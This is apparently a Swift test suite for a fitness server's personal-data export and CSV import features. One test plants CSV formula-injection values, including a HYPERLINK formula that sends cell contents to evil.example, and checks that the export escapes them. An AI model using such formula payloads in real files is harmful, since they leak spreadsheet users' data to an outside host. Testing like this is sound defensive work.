internal import DatabaseAdministration
internal import OperatingSystem
internal import Primitives
internal import Secrets
internal import TestKit
internal import Testing

@testable internal import MuscleMateServer

/// The archive of all of a person's data: asked for, made, fetched, gone.
struct DataExportTests {
  @Test func `an archive holds everything, proves itself, and is its owner's alone`() async throws {
    try await TestServer.run { server in
      let pair = try await Pair(on: server, sharing: ["history", "health"])
      try await pair.lifter.importSample()
      // Rows of a release before have no ids.
      try server.database.administer("update app.sets set id = null")
      try await pair.lifter.put(
        "/v1/lifters/me/medical-conditions", ["conditions": [["name": "Asthma", "notes": "in the cold"]]]
      ).expect(200)
      let export = try await pair.lifter.send("POST", "/v1/data-exports").expect(201).json
      let path = "/v1/data-exports/\(export["id"]?.text ?? "")"
      #expect(export["state"] == "waiting")
      try await pair.lifter.get("\(path)/archive").expect(409)
      let again = try await pair.lifter.send("POST", "/v1/data-exports").expect(429)
      #expect(Int(again.headers["retry-after"] ?? "") ?? 0 > 80_000)

      #expect(try await server.run(job: "export_data", dryRun: true).changed == 1)
      // Begun by an interrupted run: the next begins from the start at once, and nothing of the first is in it.
      try server.database.administer(
        """
        select set_config('app.tenant_id', '1', false), app.begin_export(now());
        insert into app.data_export_parts (tenant_id, account_id, export_id, number, secret)
        select tenant_id, account_id, id, 99, decode('02' || repeat('00', 40), 'hex') from app.data_exports
        """)
      #expect(try await server.run(job: "export_data").changed == 1)
      #expect(try await server.run(job: "export_data").changed == 0)
      #expect(try server.database.rows("select from app.data_export_parts where number = 99") == [])
      #expect(try await pair.lifter.get(path).expect(200).json["state"] == "ready")
      #expect(try await pair.lifter.items("/v1/data-exports").count == 1)
      #expect(try await pair.lifter.items("/v1/notices").map { $0["kind"] }.contains("export_ready"))
      #expect(try await server.mails.last(to: "anna@example.com", of: 4).contains("archive of all your data"))

      let answer = try await pair.lifter.get("\(path)/archive").expect(200)
      let archive = try await Archive(answer.body)
      #expect(archive.names.contains("README.txt") && archive.names.contains("workouts.csv"))
      #expect(archive["data/app.accounts.json"].contains("anna@example.com"))
      #expect(archive["data/medical_conditions.json"].contains("in the cold"))
      #expect(archive["data/app.sets.json"].contains("\"reps\":5"))
      // The derived ids are shown, as in the workouts.
      let ids = try server.database.rows(
        "select app.derived_id(workout_id, exercise_position, position) from app.sets where id is null")
      #expect(!ids.isEmpty)
      #expect(ids.allSatisfy { archive["data/app.sets.json"].contains($0[0] ?? "none") })
      #expect(!archive.names.contains { $0.contains("credentials") })
      #expect(try archive.isAsItsManifestSays())

      for stranger in [pair.coach, try await server.person("stan", as: "lifter")] {
        try await stranger.get(path).expect(404)
        try await stranger.get("\(path)/archive").expect(404)
        try await stranger.delete(path).expect(404)
      }
      let first = try server.database.rows(
        "select encode(secret, 'hex') from app.data_export_parts where number = 0")[0][0]
      #expect(
        first?.hasPrefix("02") == true && first?.contains(Hexadecimal.encode(Array("README".utf8))) == false)
    }
  }

  @Test func `a download goes on where it was cut off`() async throws {
    try await TestServer.run { server in
      let (anna, path) = try await server.exporting()
      let whole = try await anna.get(path).expect(200)
      let size = whole.body.count
      var resumed = anna
      resumed.headers = ["Range": "bytes=100-", "If-Range": whole.headers["etag"] ?? ""]
      let rest = try await resumed.get(path).expect(206)
      #expect(rest.body == Array(whole.body[100...]))
      #expect(rest.headers["content-range"] == "bytes 100-\(size - 1)/\(size)")
      for (range, expected) in [("bytes=0-0", 0..<1), ("bytes=-10", size - 10..<size), ("bytes=5-9", 5..<10)]
      {
        resumed.headers = ["Range": range]
        #expect(try await resumed.get(path).expect(206).body == Array(whole.body[expected]))
      }
      for odd in [
        "bytes=9-5", "bytes=\(size)-", "bytes=a-b", "bytes=0-1,3-4", "lines=1-2", "bytes=--1", "bytes=-0",
      ] {
        resumed.headers = ["Range": odd]
        #expect(try await resumed.get(path).expect(200).body.count == size, "\(odd)")
      }
      resumed.headers = ["Range": "bytes=0-9", "If-Range": "\"another\""]
      try await resumed.get(path).expect(200)
    }
  }

  @Test func `an archive takes a recent proof, expires, and can be thrown away`() async throws {
    try await TestServer.run { server in
      let (anna, path) = try await server.exporting()
      let stale = "update auth.sessions set proved_at = now() - interval '16 minutes'"
      try server.database.administer(stale)
      #expect(try await anna.get(path).expect(403).problem == "proof-needed")
      #expect(try await anna.send("POST", "/v1/data-exports").expect(403).problem == "proof-needed")
      let anew = try await server.visitor.signedIn("anna")
      try await anew.get(path).expect(200)
      let week = Timestamp.now.advanced(bySeconds: 8 * 86_400)
      #expect(try await server.run(job: "expire_exports", at: week, dryRun: true).changed == 1)
      #expect(try await server.run(job: "expire_exports").changed == 0)
      #expect(try await server.run(job: "expire_exports", at: week).changed == 1)
      #expect(try server.database.rows("select count(*) from app.data_export_parts")[0][0] == "0")
      try await anew.get(path).expect(410)
      #expect(try await anew.items("/v1/data-exports").first?["state"] == "expired")
      try await anew.delete(String(path.dropLast("/archive".count))).expect(204)
      #expect(try await anew.items("/v1/data-exports") == [])
    }
  }

  @Test func `what was exported can be imported again, set by set`() async throws {
    try await TestServer.run { server in
      let (anna, path) = try await server.exporting()
      let table = try await Archive(anna.get(path).expect(200).body)["workouts.csv"]
      let berta = try await server.person("berta", as: "lifter")
      let answer = try await berta.send(
        "POST", "/v1/lifters/me/imports", type: "text/csv", Array(table.utf8)
      ).expect(201).json
      #expect(answer["problems"]?.elements ?? [] == [])
      let (mine, theirs) = (try await anna.log(of: server), try await berta.log(of: server))
      #expect(mine == theirs)
      #expect(mine.count == 7)
    }
  }

  @Test func `one's own log is there as a table at once, as in the archive, and can be imported`()
    async throws
  {
    try await TestServer.run { server in
      let (anna, bob) = try (server.signedIn("anna"), server.signedIn("bob"))
      let path = "/v1/lifters/me/workouts.csv"
      #expect(try await anna.get(path).expect(200).text == WorkoutTable.part.opening)
      for day in 1...60 {
        let moment = Timestamp.now.advanced(bySeconds: -Int64(day) * 86_400).description
        _ = try await anna.log("=Legs", at: moment, [("Squat", [(5, 100), (3, 110)])])
      }
      let answer = try await anna.get(path).expect(200)
      #expect(answer.headers["content-type"] == "text/csv; charset=utf-8")
      let lines = answer.text.split(separator: "\r\n")
      #expect(lines.count == 121)
      #expect(lines[1].contains("'=Legs"))
      #expect(lines.dropFirst().map { $0.prefix(10) } == lines.dropFirst().map { $0.prefix(10) }.sorted())
      let report = try await bob.send(
        "POST", "/v1/lifters/me/imports", type: "text/csv", Array(answer.text.utf8)
      ).expect(201).json
      #expect(report["sets"]?["added"] == 120)
      try await server.visitor.get(path).expect(401)
    }
  }

  @Test func `of workouts with more sets than a page has, every set is in the table once, and in its order`()
    async throws
  {
    try await TestServer.run { server in
      let anna = try await server.person("anna", as: "lifter")
      // Two make a page, the third would be too much for it; the fourth is as much as a page has.
      let sizes = [1_520, 2_000, 1_480, 4_000, 40]
      var wanted: [String] = []
      for (day, size) in sizes.enumerated() {
        try await anna.log(large: size, on: "2026-01-0\(day + 1)")
        for lift in 1...40 { wanted += (1...size / 40).map { "2026-01-0\(day + 1) Lift \(lift) \($0)" } }
      }
      let pages = try server.database.rows(
        """
        with recursive page as (
          select '-infinity'::timestamptz as at, '\(UUID(high: 0, low: 0))'::uuid as id, null::json as rows
           where set_config('app.tenant_id', '1', false) = '1'
           union all
          select next.last_at, next.last_id, next.rows
            from page, app.log_lines('\(anna.account)', page.at, page.id, 50) as next
        )
        select json_array_length(rows)
          from page
         where rows is not null
        """)
      #expect(pages == [["3520"], ["1480"], ["4000"], ["40"]])

      let table = try await anna.get("/v1/lifters/me/workouts.csv").expect(200).text
      let found = table.split(separator: "\r\n").dropFirst().map { line in
        let cells = line.split(separator: ",", omittingEmptySubsequences: false)
        return "\(cells[0].prefix(10)) \(cells[2]) \(cells[4])"
      }
      #expect(found == wanted)
      try await anna.send("POST", "/v1/data-exports").expect(201)
      #expect(try await server.run(job: "export_data").changed == 1)
      #expect(try await anna.archive()["workouts.csv"] == table)
    }
  }

  @Test func `what a spreadsheet would take for a formula is none in the table, and is imported as it was`()
    async throws
  {
    try await TestServer.run { server in
      let anna = try await server.person("anna", as: "lifter")
      try await anna.post(
        "/v1/lifters/me/workouts",
        [
          "name": "=HYPERLINK(\"http://evil.example/?\"&A1)", "performed_at": "2026-01-05T18:00:00Z",
          "notes": "＝2+3", "exercises": [["name": "@SUM(1+1)", "sets": [["reps": 5, "notes": "'+1"]]]],
        ]
      ).expect(201)
      try await anna.send("POST", "/v1/data-exports").expect(201)
      #expect(try await server.run(job: "export_data").changed == 1)
      let table = try await anna.archive()["workouts.csv"]
      let row = try #require(table.split(separator: "\r\n").last)
      #expect(row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",'@SUM(1+1),"))
      #expect(row.contains(",''+1,'＝2+3,"))
      let cells = try server.database.rows("select app.csv_cell('＝1'), app.csv_cell('-1')")
      #expect(cells == [["\"'＝1\"", "\"'-1\""]])
      let berta = try await server.person("berta", as: "lifter")
      try await berta.send("POST", "/v1/lifters/me/imports", type: "text/csv", Array(table.utf8)).expect(201)
      #expect(try await anna.log(of: server) == berta.log(of: server))
    }
  }

  @Test func `a coach's archive has the coach's words and nothing of the client's`() async throws {
    try await TestServer.run { server in
      let pair = try await Pair(on: server, sharing: ["history", "workout_details", "all_lifts"])
      try await pair.lifter.importSample()
      try server.database.administer(
        """
        insert into app.client_notes (tenant_id, coach_id, lifter_id, id, text)
        values (1, '\(pair.coach.account)', '\(pair.lifter.account)', '\(World.id(80))', 'mind the knee');
        """)
      for person in [pair.coach, pair.lifter] {
        try await person.send("POST", "/v1/data-exports").expect(201)
      }
      #expect(try await server.run(job: "export_data").changed == 2)
      let coachs = try await pair.coach.archive()
      #expect(coachs["data/app.client_notes.json"].contains("mind the knee"))
      #expect(!coachs.names.contains("data/app.sets.json"))
      #expect(coachs["workouts.csv"].split(separator: "\r\n").count == 1)
      let lifters = try await pair.lifter.archive()
      #expect(!lifters.names.contains("data/app.client_notes.json"))
      #expect(lifters["data/app.coachings.json"].contains(pair.coach.account))
    }
  }

  @Test func `every exported table knows whose its rows are`() {
    for table in PersonalData.tables where !table.exported.isEmpty {
      let isKnown = !table.holders.isEmpty || PersonalData.heldThroughOthers.contains(table.name)
      #expect(isKnown, "\(table.name)")
      #expect(Set(table.holders).isSubset(of: table.names), "\(table.name)")
    }
  }

  @Test func `the page about what is kept is up to date`() throws {
    let folder = try MigrationScripts.findFolder()
    #expect(
      try Files.readText("\(folder)/../docs/privacy.md") == PersonalDataPage.text,
      "musclemate privacy > docs/privacy.md")
  }
}

/// An archive, unpacked by Python's own reader.
struct Archive {
  private let files: [String: String]

  var names: [String] { files.keys.sorted() }
  subscript(_ name: String) -> String { files[name] ?? "" }

  init(_ bytes: [UInt8]) async throws {
    let folder = try Files.makeTemporaryFolder("/tmp/musclemate-archive-")
    defer { Files.remove(folder) }
    try Files.write(bytes, to: "\(folder)/archive.zip")
    let script = "import zipfile, sys; zipfile.ZipFile(sys.argv[1]).extractall(sys.argv[2])"
    let result = try await Programs.run(
      ["/usr/bin/env", "python3", "-c", script, "\(folder)/archive.zip", "\(folder)/content"])
    guard result.status == 0 else { throw TestKitError(result.output) }
    var files: [String: String] = [:]
    for part in ["", "data/"] {
      for name in Files.names(in: "\(folder)/content/\(part)") where name != "data" {
        files[part + name] = try Files.readText("\(folder)/content/\(part)\(name)")
      }
    }
    self.files = files
  }

  func isAsItsManifestSays() throws -> Bool {
    let listed = try JSON.parse(Array(self["manifest.json"].utf8))["files"]?.elements ?? []
    return listed.count == files.count - 1
      && listed.allSatisfy { file in
        let content = Array(self[file["name"]?.text ?? ""].utf8)
        return file["bytes"]?.integer == content.count
          && file["sha256"]?.text == Hexadecimal.encode(SHA256.digest(content))
      }
  }
}

extension TestServer {
  /// Someone with a log, whose archive is ready, and where it is fetched.
  fileprivate func exporting() async throws -> (Client, String) {
    let anna = try await person("anna", as: "lifter")
    try await anna.importSample()
    let export = try await anna.send("POST", "/v1/data-exports").expect(201).json
    guard try await run(job: "export_data").changed == 1 else { throw TestKitError("nothing was made") }
    return (anna, "/v1/data-exports/\(export["id"]?.text ?? "")/archive")
  }
}

extension Client {
  fileprivate func archive() async throws -> Archive {
    let id = try await items("/v1/data-exports").first?["id"]?.text ?? ""
    return try await Archive(get("/v1/data-exports/\(id)/archive").expect(200).body)
  }

  /// A workout with so many sets: forty exercises, whose sets are heavier one after the other.
  fileprivate func log(large size: Int, on day: String) async throws {
    let exercises = (1...40).map { lift -> JSON in
      let sets = (1...size / 40).map { ["reps": 5, "weight": .number("\($0)"), "unit": "kg"] as JSON }
      return ["name": .string("Lift \(lift)"), "sets": .array(sets)]
    }
    try await post(
      "/v1/lifters/me/workouts",
      ["name": "Large", "performed_at": .string("\(day)T10:00:00Z"), "exercises": .array(exercises)]
    ).expect(201)
  }

  /// Two workouts with all that a set can have.
  fileprivate func importSample() async throws {
    let squats: JSON = [
      "name": "Squat", "notes": "low bar, \"deep\"",
      "sets": [
        ["kind": "warm_up", "reps": 5, "weight": 60, "unit": "kg"],
        [
          "reps": 5, "weight": .number("102.5"), "unit": "kg", "rpe": .number("8.5"), "rest_seconds": 180,
          "notes": "fast, light",
        ],
        ["kind": "failure", "reps": 7, "weight": 225, "unit": "lb"],
      ],
    ]
    let rows: JSON = ["name": "Rowing", "sets": [["distance_meters": 2000, "duration_seconds": 480]]]
    for (day, name) in [("01", "Day, one"), ("03", "Day two")] {
      try await post(
        "/v1/lifters/me/workouts",
        [
          "name": .string(name), "performed_at": .string("2026-03-\(day)T17:00:00Z"),
          "time_zone": "Europe/Berlin",
          "duration_seconds": 3725, "notes": "a good\nday",
          "exercises": day == "01" ? [squats, rows] : [squats],
        ]
      ).expect(201)
    }
  }

  /// Every set of the log as text.
  fileprivate func log(of server: TestServer) async throws -> [[String?]] {
    try server.database.rows(
      """
      select workout.name, workout.performed_at, workout.duration_seconds, noted.notes, exercise.name, entry.notes,
             done.kind, done.reps, done.weight, done.unit, done.rpe, done.rest_seconds, done.duration_seconds,
             done.distance_meters, done.notes
        from app.sets as done
        join app.workout_exercises as entry
          on entry.lifter_id = done.lifter_id
         and entry.workout_id = done.workout_id
         and entry.position = done.exercise_position
        join app.workouts as workout on workout.lifter_id = done.lifter_id and workout.id = done.workout_id
        join app.exercises as exercise on exercise.lifter_id = entry.lifter_id and exercise.id = entry.exercise_id
        left join app.workout_notes as noted
          on noted.lifter_id = workout.lifter_id
         and noted.workout_id = workout.id
       where done.lifter_id = '\(account)'
       order by workout.performed_at, entry.position, done.position
      """)
  }
}
